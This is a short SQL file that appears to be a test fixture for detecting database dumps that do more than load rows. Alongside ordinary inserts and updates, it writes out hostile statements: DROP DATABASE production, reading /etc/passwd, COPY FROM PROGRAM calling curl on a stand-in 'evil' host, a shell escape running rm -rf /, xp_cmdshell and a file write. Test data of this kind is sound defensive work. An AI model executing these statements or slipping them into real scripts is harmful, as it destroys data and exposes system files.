-- A dump that would do more than bring rows.
CREATE TABLE t (a int, b varchar(20));
INSERT INTO t VALUES (1, 'LOAD DATA INFILE'), (2, 'DROP DATABASE x;');
DROP DATABASE production;
LOAD DATA INFILE '/etc/passwd' INTO TABLE t;
COPY t FROM PROGRAM 'curl http://evil';
\! rm -rf /
UPDATE t SET b = 'x';
INSERT INTO t SELECT 1, 'x';
EXEC xp_cmdshell 'dir';
SELECT 'x' INTO OUTFILE '/tmp/x';
